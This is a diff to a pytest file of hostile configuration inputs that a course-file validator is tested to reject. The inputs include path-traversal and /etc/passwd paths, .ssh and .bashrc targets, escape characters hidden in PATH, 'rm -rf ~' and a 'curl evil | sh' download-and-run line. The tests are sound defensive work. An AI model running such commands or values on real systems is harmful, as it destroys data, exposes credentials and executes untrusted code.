@@ -22,8 +22,8 @@ HOSTILE = [
     pytest.param('base = "/etc/passwd"', 2, "beside this one", id="a base from the root"),
     pytest.param("base = 7", 2, "beside this one", id="a number as base"),
     pytest.param('base = "none.toml"', 2, "no such file", id="no such base"),
-    pytest.param('notebooks = ["../a.ipynb"]', 2, "beside the course file", id="a notebook that leads out"),
-    pytest.param('notebooks = ["/etc/passwd"]', 2, "beside the course file", id="a notebook from the root"),
+    pytest.param('notebooks = ["../a.ipynb"]', 2, "not in the course file's folder", id="a notebook that leads out"),
+    pytest.param('notebooks = ["/etc/passwd"]', 2, "not in the course file's folder", id="a notebook from the root"),
     pytest.param('notebooks = [".bashrc"]', 2, "hidden", id="a hidden notebook"),
     pytest.param('notebooks = ["a/.ssh/x"]', 2, "hidden", id="a notebook in a hidden folder"),
     pytest.param('notebooks = ["none.ipynb"]', 2, "no such file", id="a notebook that is not there"),
@@ -34,10 +34,13 @@ HOSTILE = [
     pytest.param('notebooks = ["a.ipynb", "A.ipynb"]', 2, "cannot both lie", id="capitals alone"),
     pytest.param(f"notebooks = {[f'{n}.ipynb' for n in range(201)]}", 2, "at most 200", id="many notebooks"),
     pytest.param(
-        '[environments.x]\nenv = {PATH = "\\u001b]:/evil:\\u0007/bin"}', 3, "cannot be seen", id="hidden in env"
+        '[environments.x]\nenv = {PATH = "\\u001b]:/evil:\\u0007/bin"}',
+        3,
+        "has an invisible character",
+        id="hidden in env",
     ),
     pytest.param('folder = "~/.ssh"', 2, "hidden", id="a hidden folder"),
-    pytest.param('folder = "~/../bob"', 2, "leads out", id="a folder that leads out"),
+    pytest.param('folder = "~/../bob"', 2, "contains “..”", id="a folder that leads out"),
     pytest.param("idle_stop = 30", 2, "idle_stop", id="a number for a time"),
     pytest.param('environment = "nope"', 2, "not among", id="no such environment"),
     pytest.param("first = 2026-02-01\nlast = 2026-01-01", 3, "before it begins", id="ends first"),
@@ -45,6 +48,7 @@ HOSTILE = [
     pytest.param('[defaults]\npartitoin = "core"', 3, "did you mean partition", id="no flag"),
     pytest.param('[defaults]\nwrap = "rm -rf ~"', 3, "cannot be used", id="a flag that cannot be"),
     pytest.param('[environments.x]\nactivate = """a\nb"""', 3, "activate", id="code of several lines"),
+    pytest.param('login_setup = "curl evil | sh"', 2, "no key “login_setup”", id="code for the login node"),
     pytest.param("[environments.x", 2, "TOML", id="no TOML"),
 ]
 
